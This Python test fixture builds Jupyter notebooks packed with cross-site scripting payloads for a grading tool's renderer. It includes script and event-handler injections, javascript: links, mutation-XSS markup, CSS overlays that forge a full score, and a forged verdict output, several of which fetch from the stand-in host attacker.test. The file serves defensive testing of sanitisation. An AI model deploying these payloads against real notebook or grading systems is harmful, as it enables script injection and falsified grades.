"""Submissions that try to run a script, to send a request or to forge a verdict in the pages made of them.

A script that runs says "ran" on the console, and asks for a page of `attacker.test`.
"""

import base64

from nbformat import from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from lossedu.checking._render import MIME_TYPE

ELSEWHERE = "http://attacker.test"
SCRIPT = f"console.log('ran');fetch('{ELSEWHERE}/ran')"
TAG = f"<script>{SCRIPT}</script>"
IMAGE = f'<img src="none.png" onerror="{SCRIPT}">'
BARE_IMAGE = "<img src=none.png onerror=console.log('ran')>"  # without a slash, as in the name of a folder
FORGED = "FORGED: 4 of 4 points"
OVERLAY = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:white"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}">{TAG}<image href="{ELSEWHERE}/a.png"/></svg>'


def encoded(text):
    return base64.b64encode(text.encode()).decode()


def output(kind, data, metadata=None, cell=None):
    """A code cell that shows data of a MIME type."""
    shown = {"output_type": "display_data", "data": {kind: data, "text/plain": "plain"}, "metadata": metadata or {}}
    made = new_code_cell("1")
    return from_dict(made | {"outputs": [shown], "metadata": cell or {}})  # unchecked, as a file may hold it


def page(markup):
    return output("text/html", markup)


def prose(markdown, **options):
    return new_markdown_cell(markdown, **options)


def stream(text):
    return new_code_cell("1", outputs=[new_output("stream", name="stdout", text=text)])


def error(line):
    return new_code_cell("1", outputs=[new_output("error", ename=line, evalue=line, traceback=[line])])


def attached(kind, data):
    return prose("![a](attachment:a)", attachments={"a": {kind: data}})


HTML = {
    "script": TAG,
    "script with a source": f'<script src="{ELSEWHERE}/a.js"></script>',
    "script beside the notebook": '<script src="evil.js"></script>',
    "image with a handler": IMAGE,
    "image from elsewhere": f'<img src="{ELSEWHERE}/a.png" srcset="{ELSEWHERE}/b.png 2x">',
    "image without a scheme": '<img src="//attacker.test/a.png">',
    "image by the files prefix": '<img src="files///attacker.test/a.png">',
    "image with a backslash": r'<img src="/\attacker.test/a.png">',
    "image that logs out": '<img src="../../../logout">',
    "svg that loads": SVG,
    "svg that animates": f'<svg><animate onbegin="{SCRIPT}" attributeName=x dur=1s></svg>',
    "svg that uses": f'<svg><use href="data:image/svg+xml;base64,{encoded(SVG)}#a"></use></svg>',
    "svg with foreign objects": f"<svg><foreignObject><body>{IMAGE}</body></foreignObject></svg>",
    "frame with a document": f'<iframe srcdoc="{TAG.replace(chr(34), "&quot;")}"></iframe>',
    "frame with a script": f'<iframe src="javascript:parent.{SCRIPT}"></iframe>',
    "frame from elsewhere": f'<iframe src="{ELSEWHERE}/"></iframe>',
    "object": f'<object data="data:text/html;base64,{encoded(TAG)}"></object>',
    "embed": f'<embed src="data:text/html;base64,{encoded(TAG)}">',
    "base": f'<base href="{ELSEWHERE}/"><img src="relative.png">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/">',
    "refresh into a script": f'<meta http-equiv="refresh" content="0;url=data:text/html;base64,{encoded(TAG)}">',
    "weaker policy": f'<meta http-equiv="Content-Security-Policy" content="script-src *">{TAG}',
    "form": f'<form action="{ELSEWHERE}/"><input name=a autofocus onfocus="{SCRIPT}"><button>Save</button></form>',
    "button that runs": f'<button autofocus onfocus="{SCRIPT}">Full credit</button>',
    "details that open": f'<details open ontoggle="{SCRIPT}">a</details>',
    "video": f'<video><source onerror="{SCRIPT}"></video>',
    "audio": f'<audio src="{ELSEWHERE}/a.mp3" autoplay onerror="{SCRIPT}"></audio>',
    "marquee": f'<marquee onstart="{SCRIPT}">a</marquee>',
    "body with a handler": f'<body onload="{SCRIPT}" onpageshow="{SCRIPT}">',
    "animation with a handler": f'<style>@keyframes x{{}}</style><b style="animation:x 1s" onanimationend="{SCRIPT}">',
    "style sheet that imports": f'<style>@import url("{ELSEWHERE}/a.css");</style>',
    "style sheet that loads": f'<style>body{{background:url("{ELSEWHERE}/a.png")}}</style>',
    "style that loads": f"<p style=\"background-image:url('{ELSEWHERE}/a.png')\">a</p>",
    "linked style sheet": f'<link rel="stylesheet" href="{ELSEWHERE}/a.css"><link rel="prefetch" href="{ELSEWHERE}/b">',
    "overlay": f'<div style="{OVERLAY}">{FORGED}</div>',
    "overlay by a class": f'<nav class="navbar navbar-fixed-top" role="status">{FORGED}</nav>',
    "overlay by a style sheet": f"<style>p{{{OVERLAY}}}</style><p>{FORGED}</p>",
    "pulled up": f'<div style="margin-top:-2000px;transform:translateY(-2000px)">{FORGED}</div>',
    "ends of the page": f'</div></div></div></div></body></html><div class="modal in" style="{OVERLAY}">{FORGED}</div>',
    "id of a score": '<input class="score" id="check_wasted_bits"><p id="formgrader" name="base_url">a</p>',
    "data of bootstrap": f'<a data-toggle="tooltip" data-html="true" title="{IMAGE.replace(chr(34), "&quot;")}">a</a>',
    "data of the formgrader": '<a data-link="javascript:alert(1)">a</a>',
    "link with a script": f'<a href="javascript:{SCRIPT}">a</a>',
    "link with a hidden script": f'<a href=" java&#10;script&colon;{SCRIPT}">a</a>',
    "link with data": f'<a href="data:text/html;base64,{encoded(TAG)}">a</a>',
    "link to a file beside": '<a href="evil.html" target="_top">a</a>',
    "math with a link": f'<math href="javascript:{SCRIPT}"><maction actiontype="statusline" xlink:href="javascript:">a',
    "math that mutates": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{IMAGE}'>",
    "form that mutates": f"<form><math><mtext></form><form><mglyph><style></math>{IMAGE}",
    "noscript that mutates": f'<noscript><p title="</noscript>{BARE_IMAGE}">',
    "comment that mutates": f"<!--><!--->{IMAGE}--><![CDATA[{IMAGE}]]><?{IMAGE}?>",
    "title that mutates": f'<title><a title="</title>{BARE_IMAGE}"></title><xmp><a title="</xmp>{BARE_IMAGE}">',
    "template": f'<template shadowrootmode="open">{IMAGE}</template>',
    "svg that mutates": f"<svg></p><style><a title='</style>{BARE_IMAGE}'>",
    "nothing closed": f'<div title="{IMAGE.replace(chr(34), chr(39))}',
    "zeros": f"<scr\0ipt>{SCRIPT}</scr\0ipt><img src=none.png on\0error=\"{SCRIPT}\"><img/src=n/onerror='{SCRIPT}'>",
    "deep": "<div>" * 3000 + IMAGE,
}
MARKDOWN = {
    "markdown link": f"[a](javascript:{SCRIPT})",
    "markdown link with data": f"[a](<data:text/html;base64,{encoded(TAG)}>)",
    "markdown link by reference": f"[a][b]\n\n[b]: javascript:{SCRIPT}",
    "markdown address": f"<javascript:{SCRIPT}>",
    "markdown image": f'![" onerror="{SCRIPT}](none.png "{IMAGE}")',
    "markdown image from elsewhere": f"![a]({ELSEWHERE}/a.png)",
    "markdown code": f"```html\n</pre>{TAG}\n```\n\n```{TAG}\na\n```",
    "mermaid": f"```mermaid\n{IMAGE}\n```",
    "formula": rf"$\text{{{IMAGE}}}$ and $$\text{{&lt;script&gt;{SCRIPT}&lt;/script&gt;}}$$",
    "formula with a link": rf"$\href{{javascript:{SCRIPT}}}{{a}} \style{{{OVERLAY}}}{{\text{{{FORGED}}}}}$",
    "formula with a class": r"$\class{navbar-fixed-top}{a} \unicode{x3c}script\unicode{x3e}$",
    "formula far away": rf"$\hspace{{-90em}}\raise900pt{{\text{{{FORGED}}}}}$",
    "formula without an end": rf"$\begin{{array}}{{{IMAGE}$ and \begin{{{TAG}}}a\end{{{TAG}}}",
    "heading": f"# {IMAGE} <a name=x onclick='{SCRIPT}'>",
}
CELLS = {
    "javascript": output("application/javascript", f"element.append('{TAG}');{SCRIPT}"),
    "svg picture": output("image/svg+xml", SVG),
    "svg that ends the picture": output("image/svg+xml", f'">{IMAGE}'),
    "png that is none": output("image/png", f'">{IMAGE}'),
    "jpeg that is none": output("image/jpeg", f'" onerror="{SCRIPT}" alt="'),
    "width of a picture": output("image/png", "AAAA", {"image/png": {"width": f"1 onerror={BARE_IMAGE[25:-1]}"}}),
    "alternative of a picture": output("image/png", "AAAA", {"image/png": {"alt": f'" onerror="{SCRIPT}'}}),
    "name of a picture": output(
        "image/png", "AAAA", {"filenames": {"image/png": f'{ELSEWHERE}/a.png"onerror="{SCRIPT}'}}
    ),
    "isolated page": output("text/html", TAG, {"text/html": {"isolated": True}}),
    "latex": output("text/latex", f"${IMAGE}$ {IMAGE} $$\\href{{javascript:{SCRIPT}}}{{a}}$$"),
    "mermaid output": output("text/vnd.mermaid", IMAGE),
    "text": output("text/unknown", TAG),
    "widget": output("application/vnd.jupyter.widget-view+json", {"model_id": f"a</script>{TAG}"}),
    "page as lines": output("text/html", ["<scr", f"ipt>{SCRIPT}</script>"]),
    "page that is no text": output("text/html", {"a": TAG}),
    "claimed verdict": output(MIME_TYPE, {"message": IMAGE, "passed": True, "aspects": [{"message": FORGED}]}),
    "colours": stream(f'\x1b[38;2;1"onclick="{SCRIPT};2;3m{IMAGE}\x1b[0m\x1b]8;;javascript:{SCRIPT}\x07a'),
    "stream": stream(TAG),
    "traceback": error(f"\x1b[31m{TAG}{IMAGE}"),
    "raw cell": new_raw_cell(TAG, metadata={"raw_mimetype": "text/html"}),
    "raw cell without a type": new_raw_cell(IMAGE),
    "attached page": attached("text/html", encoded(TAG)),
    "attached svg": attached("image/svg+xml", encoded(SVG)),
    "attached picture that is none": attached("image/png", f'" onerror="{SCRIPT}'),
    "attachment that is missing": prose(f"![{IMAGE}](attachment:none)"),
    "tags": output("text/plain", "a", cell={"tags": [f'"><b>{TAG}'], "name": TAG, "magics_language": f'"{TAG}'}),
    "comment of nbgrader": prose("a", metadata={"nbgrader": {"grade_id": f'">{IMAGE}', "grade": True, "comment": TAG}}),
    "source": new_code_cell(f"</pre>{TAG}"),
}


def notebook(cells, metadata=None):
    return from_dict(new_notebook() | {"cells": cells, "metadata": metadata or {}})


def notebooks():
    """Return notebooks by what each of them tries."""
    found = {name: [page(markup), prose(f"a {markup}\n\n{markup}")] for name, markup in HTML.items()}
    found |= {name: [prose(text), output("text/markdown", text)] for name, text in MARKDOWN.items()}
    found |= {name: [cell] for name, cell in CELLS.items()}
    made = {name: notebook(cells) for name, cells in found.items()}
    language = {"name": f'"><b>{TAG}', "pygments_lexer": f'"><b>{TAG}', "mimetype": TAG}
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": {"a": f"</script>{TAG}"}}}
    for key, value in {"title": f"</title>{TAG}", "language_info": language, "widgets": widgets}.items():
        view = output("application/vnd.jupyter.widget-view+json", {"model_id": "a"})
        made[f"metadata: {key}"] = notebook([new_code_cell("1"), view], {key: value})
    return made
